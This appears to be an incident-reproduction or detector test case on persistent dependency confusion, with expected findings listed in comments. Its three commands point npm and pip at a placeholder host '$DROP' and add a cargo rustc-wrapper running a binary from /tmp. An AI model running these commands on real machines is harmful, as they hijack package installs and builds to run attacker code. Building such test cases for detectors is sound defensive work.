# incident: dependency confusion that stays (2023): package managers are told of another registry
# finding: registry-redirected, tool-settings-written
# needs: npm pip
npm config set registry "http://$DROP/npm/"
pip config set global.index-url "http://$DROP/simple"
mkdir -p ~/.cargo && printf '[build]\nrustc-wrapper = "/tmp/sccache-x"\n' >> ~/.cargo/config.toml
